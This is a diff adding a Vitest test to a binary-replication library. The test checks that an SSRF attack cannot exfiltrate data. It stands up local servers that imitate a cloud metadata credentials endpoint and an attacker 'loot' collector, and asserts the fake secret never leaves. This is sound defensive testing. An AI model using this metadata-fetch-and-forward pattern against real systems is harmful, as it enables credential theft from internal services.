@@ -6,6 +6,8 @@
  * nor its sha-256 (which, for a short secret, is the secret).
  */
 import { createHash } from 'node:crypto';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { writeFileSync } from 'node:fs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { recordBinary, recordRelease } from '../../src/index.js';
@@ -50,5 +52,52 @@ describe('replicating from a file:// location that is not the binary', () => {
     // Nor does anything the replicator wrote to the repository.
     const { log } = await import('../../src/index.js');
     expect(JSON.stringify(log(repo, { project: 'acme/app', limit: 20 }))).not.toContain(secretHex);
+  });
+});
+
+/**
+ * The same attack through the network: a writer records a binary whose location is a URL only
+ * the replicating machine can reach (a cloud metadata endpoint, an internal service; here a
+ * server on 127.0.0.1), and a destination it reads (a replication rule in meta.yaml, which any
+ * pusher may change, can name any http(s) server that takes a PUT). The replicator fetches the
+ * source, but its bytes leave only when they are the recorded binary.
+ */
+describe('replicating from an http(s) location that is not the binary', () => {
+  const t = tempDir('meta-attack-ssrf-');
+  let repo: MetaRepo;
+  let internal: Server;
+  let collector: Server;
+  let internalUrl = '';
+  let collectorUrl = '';
+  const received: Buffer[] = [];
+  const secret = 'AWS_SECRET=internal-only-credential\n';
+  const listen = async (s: Server) => {
+    await new Promise<void>((r) => s.listen(0, '127.0.0.1', () => r()));
+    return `http://127.0.0.1:${(s.address() as AddressInfo).port}`;
+  };
+  beforeAll(async () => {
+    repo = await diskRepo(t.dir);
+    internal = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/plain' }).end(secret));
+    collector = createServer((req, res) => {
+      req.on('data', (c: Buffer) => received.push(c));
+      req.on('end', () => res.writeHead(req.method === 'PUT' ? 201 : 404).end());
+    });
+    internalUrl = await listen(internal);
+    collectorUrl = await listen(collector);
+  });
+  afterAll(async () => {
+    repo.close();
+    for (const s of [internal, collector]) await new Promise<void>((r) => { s.close(() => r()); s.closeAllConnections(); });
+    t.cleanup();
+  });
+
+  it('sends nothing of the source to the destination when its bytes are not the recorded ones', async () => {
+    await recordRelease(repo, { project: 'acme/app', version: '4.0.0', sources: [{ url: 'https://git.example/acme/app', commit: sha('f') }] });
+    await recordBinary(repo, { project: 'acme/app', version: '4.0.0', platform: 'linux/amd64', digest: sha256('anything'), size: Buffer.byteLength(secret), urls: [`${internalUrl}/latest/meta-data/iam/security-credentials/role`] });
+    const r = await replicateBinary(repo, { target: { project: 'acme/app', version: '4.0.0', platform: 'linux/amd64' }, to: [{ url: `${collectorUrl}/loot/4.0.0` }], retries: 1, backoff: { baseMs: 1, capMs: 2 } });
+    expect(r.ok).toBe(false);
+    expect(r.results[0]!.error!.code).toBe('DIGEST_MISMATCH');
+    expect(Buffer.concat(received).toString()).not.toContain('internal-only-credential');
+    expect(r.results[0]!.error!.message).not.toContain(createHash('sha256').update(secret).digest('hex'));
   });
 });
